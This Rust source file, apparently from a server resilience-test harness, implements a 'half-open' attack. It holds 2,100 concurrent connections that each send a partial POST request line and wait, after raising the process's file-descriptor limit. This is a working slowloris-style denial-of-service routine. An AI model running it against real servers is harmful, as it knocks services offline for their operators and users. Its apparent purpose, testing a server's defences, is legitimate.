//! Connections that send half a request line and then nothing, more of them than may be open.

use anyhow::{Context, Result};
use async_trait::async_trait;
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
};

use super::{Attack, Target};

const CONNECTIONS: usize = 2_100;

pub(super) struct HalfOpen;

#[async_trait]
impl Attack for HalfOpen {
    fn name(&self) -> &'static str {
        "half-open"
    }

    async fn run(&self, target: &Target) -> Result<()> {
        let Rlimit { maximum, .. } = getrlimit(Resource::Nofile);
        let limit = Rlimit {
            current: maximum,
            maximum,
        };
        setrlimit(Resource::Nofile, limit).context("allow the attacker enough connections")?;
        let mut opened = JoinSet::new();
        for _ in 0..CONNECTIONS {
            let target = target.clone();
            opened.spawn(async move {
                while !target.is_over() {
                    drop(open(&target).await);
                }
            });
        }
        while opened.join_next().await.is_some() {}
        Ok(())
    }
}

/// Stays until the server closes the connection.
async fn open(target: &Target) -> Result<()> {
    let mut stream = TcpStream::connect(&target.address).await?;
    stream.write_all(b"POST /v1/queues/attac").await?;
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).await?;
    Ok(())
}
